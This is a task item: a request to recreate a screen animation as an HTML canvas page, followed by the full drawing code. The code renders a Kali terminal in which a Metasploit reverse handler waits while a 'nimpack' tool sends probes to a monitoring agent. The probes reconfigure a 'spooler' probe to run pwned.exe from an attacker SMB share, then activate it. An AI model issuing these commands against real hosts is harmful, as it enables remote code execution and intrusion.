
Recreate the animation shown at these times as an HTML page with a canvas. Size 997 by 561 pixels, loop 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #000; }
canvas { display: block; width: 997px; height: 561px; }
</style>
</head>
<body>
<canvas id="stage" width="997" height="561"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
// The screen is a 1920 px desktop scaled down; terminal cells are 13 x 25 there.
const SCALE = 997 / 1920, CELL = 13 * SCALE, ROW = 25 * SCALE;
const LOOP = 8000, COLS = 142, LEFT = 26.4, TOP = 36.1, FONT = CELL / 0.60205;
const MONO = '"DejaVu Sans Mono", "Liberation Mono", monospace';
const SANS = '"Open Sans", "DejaVu Sans", sans-serif';
const USER = 'tavo';
const WHITE = '#eceeef', RED = '#a6000f', BLUE = '#2c6aa8';

const colX = c => LEFT + c * CELL;
const rowY = r => TOP + r * ROW;
const clamp = v => Math.max(0, Math.min(1, v));
const ease = v => { v = clamp(v); return v * v * (3 - 2 * v); };
const mix = (a, b, k) => a + (b - a) * k;

function box(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}
function round(x, y, w, h, r, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.roundRect(x, y, w, h, r);
  ctx.fill();
}
function disc(x, y, r, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.arc(x, y, r, 0, Math.PI * 2);
  ctx.fill();
}
function frame(x, y, w, h, color, width = 1) {
  ctx.strokeStyle = color;
  ctx.lineWidth = width;
  ctx.strokeRect(x, y, w, h);
}
// pts: flat list of x, y pairs
function path(pts, color, width = 1) {
  ctx.beginPath();
  for (let i = 0; i < pts.length; i += 2) ctx.lineTo(pts[i], pts[i + 1]);
  if (width) {
    ctx.strokeStyle = color;
    ctx.lineWidth = width;
    ctx.stroke();
  } else {
    ctx.fillStyle = color;
    ctx.fill();
  }
}
function mono(s, col, row, color = WHITE, bold = false) {
  ctx.font = (bold ? 'bold ' : '') + FONT + 'px ' + MONO;
  ctx.fillStyle = color;
  ctx.fillText(s, colX(col), rowY(row) + 10.3);
}
function label(s, x, y, size, color, weight = 600) {
  ctx.font = `${weight} ${size}px ${SANS}`;
  ctx.fillStyle = color;
  ctx.fillText(s, x, y);
}
const caret = (x, y) => path([x - 2.6, y - 1.2, x + 2.6, y - 1.2, x, y + 1.8], '#d5d5d5', 0);

const TAIL = String.raw`\x00frm\x007\x0015\x00127.0.0.1/1337\x00tout\x001\x004\x00180\x00addr\x007\x000\x00name\x001\x008\x00spooler`;
const HEAD = String.raw`\r\nmtype\x007\x004\x00100\x00cmd\x007`;
const SEQ = String.raw`\x00seq\x001\x002\x000\x00ts\x001\x0011\x00`;
const REPLY = String.raw`[+] Recieved: 'nimbus/1.0 37 0\r\nmtype\x007\x004\x00200\x00status\x001\x002\x000\x00seq\x001\x002\x000\x00'`;
const TARGET = './nimpack -t 192.168.159.159 -p 48000 ';
const SHARE = String.raw`\\\\192.168.159.157\\EVIL\\pwned.exe`;

const runs = [
  {
    at: 1860,
    cmd: TARGET + `probe_change_par name=spooler par=command value="${SHARE}"`,
    sent: `[*] Sending generated probe (211): 'nimbus/1.0 115 77` + HEAD +
      String.raw`\x0017\x00probe_change_par` + SEQ + '1597204521' + TAIL +
      String.raw`\x00par\x001\x008\x00command\x00value\x001\x0033\x00` + SHARE + String.raw`\x00'`
  },
  {
    at: 7860,
    cmd: TARGET + 'probe_activate name=spooler',
    sent: `[*] Sending generated probe (149): 'nimbus/1.0 113 17` + HEAD +
      String.raw`\x0015\x00probe_activate` + SEQ + '1597204527' + TAIL + String.raw`\x00'`
  }
];

function desktop() {
  box(0, 0, 997, 561, '#000');
  const sky = ctx.createLinearGradient(0, 14, 26, 561);
  sky.addColorStop(0, '#36a8cc');
  sky.addColorStop(1, '#2f9fc2');
  box(0, 14, 26, 547, sky);

  const glow = ctx.createRadialGradient(497, 270, 0, 497, 270, 560);
  glow.addColorStop(0, '#020813');
  glow.addColorStop(0.41, '#020a13');
  glow.addColorStop(0.44, '#030d13');
  glow.addColorStop(1, '#031015');
  box(26, 35, 971, 526, glow);
  disc(500, 270, 45, '#191814');

  box(991.8, 37, 3.2, 522, '#7c8385');
}

function dock() {
  round(-4, 163, 30, 249, 4, '#1d3037');
  // folder
  round(5.5, 169, 8, 5, 1, '#4a90d9');
  round(5.5, 171, 15, 11.5, 1, '#e9eef4');
  box(5.5, 171, 15, 2.5, '#5b9be0');
  disc(13, 200, 7.5, '#d23a32');
  // terminal
  round(5, 219, 16, 14, 1.5, '#c9cfd0');
  box(6, 220, 14, 12, '#22292c');
  path([8, 222.5, 9.8, 224, 8, 225.5], '#fff', 0.8);
  box(10.5, 225.3, 2.5, 0.8, '#fff');
  box(11, 235, 4, 1.3, '#2a7fd0');
  // text file
  path([7, 243, 15, 243, 19, 247, 19, 258, 7, 258], '#eceeee', 0);
  disc(17, 254, 3.8, '#cf2030');
  box(14.8, 253.4, 4.4, 1.2, '#fff');

  box(7, 269, 12, 12, '#2d77b4');
  box(7, 294, 13, 13, '#e2683f');
  disc(13, 326, 7, '#c5202f');
  disc(13, 350, 7.5, '#8f1219');
  disc(13, 374.5, 7.5, '#875a4b');
  for (let i = 0; i < 9; i++)
    round(7.5 + (i % 3) * 4.3, 394.7 + Math.floor(i / 3) * 4.3, 2.5, 2.5, 0.7, '#eef2f3');
}

function topBar(t) {
  const c = '#d8d8d8';
  label('Activities', 6, 9.7, 7.7, c);
  label('Applications', 53, 9.7, 7.3, c);
  caret(100.5, 7);
  label('Places', 120, 9.7, 7.3, c);
  caret(147.5, 7);
  frame(168.5, 3.2, 7.5, 7, c, 0.9);
  path([170, 5, 171.5, 6.3, 170, 7.6], c, 0.7);
  label('Terminal', 179.5, 9.7, 7.3, c);
  caret(215.5, 7);
  label('Aug 11', 487, 9.7, 7.5, c);
  label('22:55', 515, 9.7, 7.6, c);

  box(860, 2, 13.5, 10.5, '#8f8f8f');
  label('1', 864.8, 9.8, 7.3, '#fff');
  const sec = String(Math.floor(3.75 + t / 1000)).padStart(2, '0');
  label('00:00:' + sec, 886, 9.7, 7, '#e00a10', 700);
  box(918.5, 4, 6, 5.5, '#d8000c');
  path([924, 6.7, 927.5, 4, 927.5, 9.5], '#d8000c', 0);

  frame(942, 4, 7, 4.8, c, 1);
  box(944, 10, 3, 0.9, c);
  path([956.5, 5.7, 958, 5.7, 960, 4, 960, 10, 958, 8.3, 956.5, 8.3], '#555', 0);
  ctx.strokeStyle = '#444';
  ctx.beginPath();
  ctx.arc(960, 7, 3, -0.9, 0.9);
  ctx.stroke();
  ctx.strokeStyle = c;
  ctx.beginPath();
  ctx.arc(974.5, 7, 2.9, -0.95, Math.PI + 0.95);
  ctx.stroke();
  path([974.5, 3.2, 974.5, 6.8], c, 1);
  caret(986, 7);
}

// k: 0 in the background, 1 in focus
function titleBar(k) {
  const v = Math.round(mix(150, 238, k)), c = `rgb(${v},${v},${v})`;
  const bar = ctx.createLinearGradient(0, 14, 0, 35);
  bar.addColorStop(0, '#23282b');
  bar.addColorStop(1, '#1b2023');
  box(26, 14, 971, 21, bar);
  box(26, 34.5, 971, 1, '#0a0e10');
  if (k > 0) {
    ctx.globalAlpha = k;
    box(26, 34.6, 971, 1, '#2449a8');
    ctx.globalAlpha = 1;
  }
  for (const x of [30, 898, 917]) round(x, 18, 13, 12.5, 2, '#2a3033');

  frame(33.8, 21.5, 6, 4, c, 1.1);
  box(32.7, 26.5, 8.2, 1.2, c);
  label('kali', 483, 26.7, 7.2, c);
  label('❐', 497, 26.7, 7.2, c);
  label('0', 506, 26.7, 7.2, c);
  disc(514, 24.2, 1.7, c);
  label('1 bash', 518, 26.7, 7, c);

  ctx.strokeStyle = c;
  ctx.lineWidth = 1.1;
  ctx.beginPath();
  ctx.arc(903.6, 23.5, 2.5, 0, Math.PI * 2);
  ctx.stroke();
  path([905.4, 25.3, 907.6, 27.6], c, 1.2);
  for (const y of [21, 24.3, 27.6]) disc(923.5, y, 0.9, c);
  box(944, 25.8, 4.5, 1, c);
  frame(963.8, 22.3, 3.8, 3.8, c, 1);
  path([983.3, 22.2, 987.5, 26.4], c, 1);
  path([987.5, 22.2, 983.3, 26.4], c, 1);
}

function prompt(row) {
  mono(USER + '@kali', 0, row, RED, true);
  mono(':', 9, row);
  mono('~', 10, row, BLUE, true);
  mono('#', 11, row);
}

function panes(t, focused, since) {
  mono('msf5', 0, 0);
  box(LEFT, 47.3, 4 * CELL, 0.9, WHITE);
  mono('exploit(', 5, 0);
  mono('multi/handler', 13, 0, RED, true);
  mono(') > exploit', 26, 0);
  mono('[*]', 0, 2, BLUE, true);
  mono('Started HTTPS reverse handler on https://192.168.159.157:42', 4, 2);

  const mid = rowY(19.5) - SCALE;
  box(LEFT, mid, 72 * CELL, 2 * SCALE, '#585858');
  box(colX(72), mid, 70 * CELL, 2 * SCALE, '#00afff');

  let row = 20;
  for (const run of runs) {
    if (t < run.at) break;
    prompt(row);
    mono(run.cmd, 13, row);
    for (let i = 0; i < run.sent.length; i += COLS)
      mono(run.sent.slice(i, i + COLS), 0, ++row);
    mono(REPLY, 0, row += 2);
    row++;
  }
  prompt(row);
  const x = colX(13), y = rowY(row);
  if (!focused) frame(x + 0.5, y + 0.5, CELL, ROW - 1, '#b9bdbe', 0.9);
  else if (Math.floor(since / 600) % 2 === 0) box(x, y, CELL, ROW, '#fff');
}

function statusBar(t) {
  const row = 39;
  const block = (from, to, color) => box(colX(from), rowY(row), (to - from) * CELL, ROW, color);
  block(0, COLS, '#070808');
  block(0, 5, '#ffff00');
  mono('❐ 0', 1, row, '#000', true);
  block(5, 14, '#e800a2');
  mono('↑ 1h 2m', 6, row, '#f4d3e8');
  block(15, 23, '#00b0ff');
  mono('1 bash', 16, row, '#04131c', true);
  mono('| 22:55 | 11 Aug', 112, row, '#858888');
  block(129, 136, '#cf0000');
  block(136, 142, '#e4e4e4');
  const blink = Math.floor((t + 300) / 600) % 2 === 0;
  mono(USER + (blink ? '!' : ''), 130, row, '#f2e4e4', true);
  mono('kali', 137, row, '#000', true);
}

function pointerAt(t) {
  if (t >= 1500 && t < 5350) {
    const come = ease((t - 1450) / 250), out = clamp((t - 5000) / 350);
    return [
      mix(930, 519.5, come) + 1.5 * ease((t - 4100) / 200) + 490 * out * out,
      mix(470, 451.5, come) + 20 * out
    ];
  }
  if (t >= 7200) return [mix(615, 548.5, ease((t - 7230) / 270)), 475.5];
  return null;
}

function pointer(t) {
  const p = pointerAt(t);
  if (!p) return;
  const [x, y] = p;
  box(x - 0.6, y - 4, 1.3, 8, '#d9dcdd');
  box(x - 2.2, y - 4.5, 4.4, 1, '#d9dcdd');
  box(x - 2.2, y + 3.5, 4.4, 1, '#d9dcdd');
}

function draw() {
  const t = (performance.now() + 20) % LOOP;
  const start = t >= 7700 ? 7700 : 1700;
  const since = t - start;
  const focused = since >= 0 && (t < 5500 || t >= 7700);
  const lit = focused ? clamp((since - 130) / 60) : t >= 5500 ? 1 - clamp((t - 5500) / 200) : 0;

  ctx.textBaseline = 'alphabetic';
  ctx.textRendering = 'geometricPrecision';
  desktop();
  dock();
  topBar(t);
  titleBar(lit);
  panes(t, focused, since);
  statusBar(t);
  pointer(t);
  requestAnimationFrame(draw);
}
draw();
</script>
</body>
</html>
```
